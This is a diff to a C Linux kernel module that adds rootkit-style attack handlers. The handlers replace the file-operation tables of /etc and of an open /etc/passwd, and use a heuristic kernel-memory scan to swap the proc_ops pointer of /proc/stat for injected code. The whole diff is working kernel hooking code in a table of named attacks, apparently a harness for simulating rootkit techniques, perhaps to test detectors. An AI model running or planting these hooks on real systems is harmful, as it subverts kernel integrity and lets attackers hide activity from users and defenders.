@@ -5,6 +5,7 @@
 
 #include <linux/binfmts.h>
 #include <linux/delay.h>
+#include <linux/file.h>
 #include <linux/fs.h>
 #include <linux/ftrace.h>
 #include <linux/hrtimer.h>
@@ -20,6 +21,7 @@
 #include <linux/reboot.h>
 #include <linux/seq_file.h>
 #include <linux/skbuff.h>
+#include <linux/slab.h>
 #include <linux/string.h>
 #include <linux/timer.h>
 #include <linux/tracepoint.h>
@@ -508,29 +510,125 @@ static void inode_table_off(void)
 
 // One folder gets a table of its own; the one that it shared stays as it is.
 static struct file_operations own_table;
+static struct file_operations *allocated_table;
 static const struct file_operations *shared_table;
 static struct file *own_folder;
 
-static int own_table_on(const char *argument)
+static int replace_table(struct file_operations *table, const char *argument)
 {
 	own_folder = filp_open("/etc", O_RDONLY | O_DIRECTORY, 0);
 	if (IS_ERR(own_folder))
 		return PTR_ERR(own_folder);
 	shared_table = file_inode(own_folder)->i_fop;
-	own_table = *shared_table;
-	own_table.iterate_shared = CODE(argument, own_table.iterate_shared);
-	if (!own_table.iterate_shared) {
+	*table = *shared_table;
+	table->iterate_shared = CODE(argument, table->iterate_shared);
+	if (!table->iterate_shared) {
 		fput(own_folder);
 		return -ENOMEM;
 	}
-	file_inode(own_folder)->i_fop = &own_table;
+	file_inode(own_folder)->i_fop = table;
 	return 0;
+}
+
+static int own_table_on(const char *argument)
+{
+	return replace_table(&own_table, argument);
 }
 
 static void own_table_off(void)
 {
 	file_inode(own_folder)->i_fop = shared_table;
 	fput(own_folder);
+}
+
+static int allocated_table_on(const char *argument)
+{
+	int result;
+	allocated_table = kmalloc(sizeof(*allocated_table), GFP_KERNEL);
+	result = allocated_table ? replace_table(allocated_table, argument) : -ENOMEM;
+	if (result)
+		kfree(allocated_table);
+	return result;
+}
+
+static void allocated_table_off(void)
+{
+	own_table_off();
+	synchronize_rcu();
+	kfree(allocated_table);
+}
+
+// The same for one file that whoever asks has open from then on, and for no other.
+static struct file *own_file;
+
+static int own_file_on(const char *argument)
+{
+	int descriptor;
+	own_file = filp_open("/etc/passwd", O_RDONLY, 0);
+	if (IS_ERR(own_file))
+		return PTR_ERR(own_file);
+	descriptor = get_unused_fd_flags(0);
+	shared_table = own_file->f_op;
+	own_table = *shared_table;
+	own_table.llseek = CODE(argument, own_table.llseek);
+	if (descriptor < 0 || !own_table.llseek) {
+		fput(own_file);
+		return -ENOMEM;
+	}
+	own_file->f_op = &own_table;
+	fd_install(descriptor, get_file(own_file));
+	return 0;
+}
+
+static void own_file_off(void)
+{
+	own_file->f_op = shared_table;
+	fput(own_file);
+}
+
+// The entry of /proc/stat gets a table of its own. What is private to the kernel is searched for: its inode stands in
+// a structure that leads to the entry, and that to the table.
+static struct proc_ops own_entry_table;
+static struct proc_ops *shared_entry_table, **entry_slot;
+
+static struct proc_ops **find_entry_slot(struct inode *inode, const struct proc_ops *table)
+{
+	void **before = (void **)inode;
+	for (int i = 1; i <= 16; i++) {
+		void **object = before[-i];
+		if (!virt_addr_valid(object) || (unsigned long)object % sizeof(void *))
+			continue;
+		for (int member = 0; member < 16; member++)
+			if (object[member] == table)
+				return (struct proc_ops **)&object[member];
+	}
+	return NULL;
+}
+
+static int own_entry_on(const char *argument)
+{
+	struct file *file;
+	shared_entry_table = attack_symbol("stat_proc_ops");
+	if (!shared_entry_table)
+		return -EOPNOTSUPP;
+	file = filp_open("/proc/stat", O_RDONLY, 0);
+	if (IS_ERR(file))
+		return PTR_ERR(file);
+	entry_slot = find_entry_slot(file_inode(file), shared_entry_table);
+	fput(file);
+	if (!entry_slot)
+		return -EOPNOTSUPP;
+	own_entry_table = *shared_entry_table;
+	own_entry_table.proc_lseek = CODE(argument, own_entry_table.proc_lseek);
+	if (!own_entry_table.proc_lseek)
+		return -ENOMEM;
+	*entry_slot = &own_entry_table;
+	return 0;
+}
+
+static void own_entry_off(void)
+{
+	*entry_slot = shared_entry_table;
 }
 
 static struct linux_binfmt format;
@@ -593,6 +691,9 @@ struct attack attack_handlers[] = {
 	{"folder_operations", folder_table_on, folder_table_off},
 	{"inode_operations", inode_table_on, inode_table_off},
 	{"own_operations", own_table_on, own_table_off},
+	{"own_operations_allocated", allocated_table_on, allocated_table_off},
+	{"own_operations_of_open_file", own_file_on, own_file_off},
+	{"own_operations_of_proc_entry", own_entry_on, own_entry_off},
 	{"binary_format", format_on, format_off},
 	{"kernel_thread", thread_on, thread_off},
 	{},
